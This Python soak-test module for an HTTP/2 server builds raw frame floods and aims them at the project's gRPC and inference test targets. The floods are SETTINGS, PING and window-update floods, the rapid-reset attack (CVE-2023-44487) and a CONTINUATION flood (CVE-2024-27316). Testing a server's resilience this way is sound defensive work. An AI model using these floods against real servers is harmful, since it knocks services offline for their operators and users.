"""Clients of HTTP/2 that make the server work and read nothing of what it answers."""

from __future__ import annotations

import asyncio
import random
from collections.abc import Callable, Mapping
from contextlib import suppress

from hpack import Encoder

from msx_net.http2 import frames
from msx_net.http2.errors import ErrorCode
from tests.soak.client import RawClient
from tests.soak.target import Target, Visit

FRAMES = 20_000
STREAMS = 5_000

_HEADERS = [
    (":method", "POST"),
    (":scheme", "http"),
    (":authority", "soak"),
    (":path", "/org.pytorch.serve.grpc.inference.InferenceAPIsService/Predictions"),
    ("te", "trailers"),
    ("content-type", "application/grpc"),
]


def _settings() -> bytes:
    return frames.frame(frames.SETTINGS, 0, 0, b"\0\4" + (1 << 16).to_bytes(4, "big")) * FRAMES


def _pings() -> bytes:
    return frames.frame(frames.PING, 0, 0, b"12345678") * FRAMES


def _windows() -> bytes:
    return frames.window_update(0, 1) * FRAMES


def _resets() -> bytes:
    """CVE-2023-44487."""
    block = Encoder().encode(_HEADERS)
    return b"".join(
        frames.header_frames(one, block, end=False, max_size=1 << 14) + frames.rst_stream(one, ErrorCode.CANCEL)
        for one in range(1, 2 * STREAMS, 2)
    )


def _continuations() -> bytes:
    """CVE-2024-27316."""
    head = frames.frame(frames.HEADERS, 0, 1, b"\x82")
    return head + frames.frame(frames.CONTINUATION, 0, 1, b"\x86" * 1000) * 1000


FRAMES_OF: Mapping[str, Callable[[], bytes]] = {
    "flood_settings": _settings,
    "flood_pings": _pings,
    "flood_windows": _windows,
    "reset_rapidly": _resets,
    "continue_for_ever": _continuations,
}
"""By name: the frames that a client sends behind its preface."""
BEGIN = frames.PREFACE + frames.frame(frames.SETTINGS, 0, 0)


def _visit(name: str, made: Callable[[], bytes]) -> Visit:
    async def flood(target: Target) -> None:
        async with await RawClient.connect(random.choice([target.grpc, target.inference])) as client:
            await send_unread(client, BEGIN + made())

    flood.__name__ = name
    return flood


async def send_unread(client: RawClient, data: bytes) -> None:
    """Send, for 5 s at most, and leave."""
    with suppress(ConnectionError):
        client.send(data)
        with suppress(asyncio.TimeoutError):
            await asyncio.wait_for(client.sent(), 5)
    client.leave(reset=True)


FLOODS: tuple[Visit, ...] = tuple(_visit(name, made) for name, made in FRAMES_OF.items())
